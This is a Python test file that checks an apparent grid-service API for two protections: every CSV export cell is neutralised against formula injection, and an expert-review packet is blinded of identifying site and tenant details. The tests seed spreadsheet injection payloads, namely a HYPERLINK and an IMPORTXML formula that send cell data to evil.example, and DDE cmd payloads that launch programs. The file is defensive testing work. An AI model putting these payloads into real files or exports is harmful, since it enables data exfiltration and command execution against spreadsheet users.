"""Exports: formula injection neutralised in every CSV cell, and the expert-review packet
blinded, both proved with hostile and identifying values sent through the HTTP API.

The hostile values go in through the site (reference, metadata, address) and through the
public data the assessment quotes (queue project names and points of interconnection,
transmission project titles, utility names), as a poisoned harvest would bring them.
"""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from fastapi.testclient import TestClient
from security_support import ALPHA, create_assessment, create_export, create_site, set_in_bodies

from gridservice.app import create_app
from gridservice.settings import Settings
from gridservice.store.db import connect

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_DATA = {
    ("queue_records", "$.projectName"): '=HYPERLINK("http://evil.example/x","open")',
    ("queue_records", "$.pointOfInterconnection"): "@SUM(A1:A9)",
    ("transmission_projects", "$.title"): "+cmd|' /C calc'!A0",
    ("service_territories", "$.utility"): "-2+3+cmd|' /C notepad'!A0",
}


@pytest.fixture(scope="module")
def service(store_copy):
    conn = connect(store_copy)
    with conn:
        for (table, path), value in HOSTILE_DATA.items():
            key_column = "territory_id" if table == "service_territories" else "id"
            set_in_bodies(conn, table, key_column, path.removeprefix("$."), value)
    conn.close()
    app = create_app(Settings.for_store(store_copy, demo=True, secret_key=b"e" * 32))
    with TestClient(app, raise_server_exceptions=False) as client:
        yield client


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_every_csv_cell_is_neutralised_with_hostile_site_and_data_values(service):
    site = create_site(
        service,
        ALPHA,
        customerReference="=1+1",
        metadata={"@owner": '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'},
        address={"addressLine1": "+44 Formula Street", "locality": "\tTabtown"},
    )
    assessment = create_assessment(service, ALPHA, site["id"])
    export = create_export(service, ALPHA, assessment["id"])
    assert export["contentType"] == "text/csv; charset=utf-8"

    cells = csv_cells(export["content"])
    assert len(cells) > 40
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert dangerous == []
    # The poisoned data was exercised: it reached the export, neutralised.
    quoted = {value for value in HOSTILE_DATA.values() if "'" + value in cells}
    assert len(quoted) >= 3, quoted
    # The client's site fields never enter the export at all.
    assert "IMPORTXML" not in export["content"] and "Formula Street" not in export["content"]


IDENTIFYING = {
    "customerReference": "ACME-REF-77310",
    "metadata": {"crmAccount": "acct-5501-bluebird", "owner": "jane.doe@acme.example"},
    "address": {
        "addressLine1": "1234 Hidden Valley Road",
        "addressLine2": "Building 99-Q",
        "locality": "Secretville",
        "postalCode": "78799-4321",
    },
}


def test_the_packet_carries_no_identifying_value_of_the_site_or_tenant(service):
    site = create_site(
        service,
        ALPHA,
        **IDENTIFYING,
        # The same values hidden inside the opaque engineering fields a reviewer does see.
        rampProfile=[{"step": 1, "mw": 20, "note": "for ACME-REF-77310"}],
        onSiteGeneration=[{"kind": "gas", "mw": 10, "ownerRef": "acct-5501-bluebird"}],
        energyStorage={"mwh": 40, "site": "1234 Hidden Valley Road, Secretville"},
    )
    assessment = create_assessment(service, ALPHA, site["id"])
    response = service.get(f"/v1/assessments/{assessment['id']}/expert-review.json", headers=ALPHA)
    assert response.status_code == 200
    raw = response.content.decode("utf-8").lower()
    identifying = [
        "demo-alpha",
        site["id"],
        assessment["id"],
        IDENTIFYING["customerReference"],
        *IDENTIFYING["metadata"].values(),
        *IDENTIFYING["address"].values(),
        # Timestamps link too: the assessment list holds these to the millisecond.
        assessment["createdAt"].lower(),
        site["createdAt"].lower(),
        assessment["createdAt"][:19].lower(),
    ]
    leaked = [value for value in identifying if value.lower() in raw]
    assert leaked == []
    # Scrubbed, not dropped: the engineering values around the identifying text remain.
    packet = response.json()["data"]
    assert packet["site"]["rampProfile"][0]["mw"] == 20
    assert packet["site"]["energyStorage"]["mwh"] == 40


def folded(text: str) -> str:
    return unicodedata.normalize("NFKC", text).casefold()


def test_case_changed_and_compatibility_copies_are_scrubbed_too(service):
    """The same values in other case, or in full-width or ligature forms, in every opaque
    engineering object: none reaches the packet, compared after NFKC and case folding."""
    full_width_reference = "".join(
        chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in "acme-ref-77310"
    )
    site = create_site(
        service,
        ALPHA,
        **IDENTIFYING,
        rampProfile=[{"step": 1, "mw": 20, "note": "phase for SECRETVILLE"}],
        onSiteGeneration=[
            {"name": "acme-ref-77310", "mw": 10},
            {"name": full_width_reference, "owner": "JANE.DOE@ACME.EXAMPLE"},
        ],
        energyStorage={"mwh": 40, "Building 99-q": "1234 hidden valley road", "zip": "78799-4321"},
    )
    assessment = create_assessment(service, ALPHA, site["id"])
    response = service.get(f"/v1/assessments/{assessment['id']}/expert-review.json", headers=ALPHA)
    assert response.status_code == 200
    raw = folded(response.content.decode("utf-8"))
    identifying = [
        IDENTIFYING["customerReference"],
        *IDENTIFYING["metadata"].values(),
        *IDENTIFYING["address"].values(),
    ]
    assert [value for value in identifying if folded(value) in raw] == []
    packet = response.json()["data"]["site"]
    assert packet["onSiteGeneration"][0] == {"name": "[redacted]", "mw": 10}
    assert packet["rampProfile"][0]["note"] == "phase for [redacted]"
    assert packet["energyStorage"]["mwh"] == 40


def test_the_packet_coarsens_the_site_to_a_tenth_of_a_degree(service):
    """To a hundredth (about 1 km), the cell with the county and the MW can single out a
    campus (SECURITY.md, section 8); to a tenth it is some 10 km across."""
    site = create_site(service, ALPHA)
    assessment = create_assessment(service, ALPHA, site["id"])
    packet = service.get(
        f"/v1/assessments/{assessment['id']}/expert-review.json", headers=ALPHA
    ).json()["data"]
    location = site["location"]
    assert packet["site"]["location"] == {
        "latitude": round(location["latitude"], 1),
        "longitude": round(location["longitude"], 1),
    }


def test_the_packet_still_lets_an_expert_review_the_engineering(service):
    site = create_site(service, ALPHA, **IDENTIFYING, serviceVoltageKv=345.0)
    assessment = create_assessment(service, ALPHA, site["id"])
    packet = service.get(
        f"/v1/assessments/{assessment['id']}/expert-review.json", headers=ALPHA
    ).json()["data"]
    assert packet["site"]["requestedPeakLoadMw"] == site["requestedPeakLoadMw"]
    assert packet["site"]["serviceVoltageKv"] == 345.0
    assert packet["serviceAssessment"]["readiness"] == assessment["readiness"]
    assert packet["caseId"].startswith("case_") and assessment["id"] not in packet["caseId"]
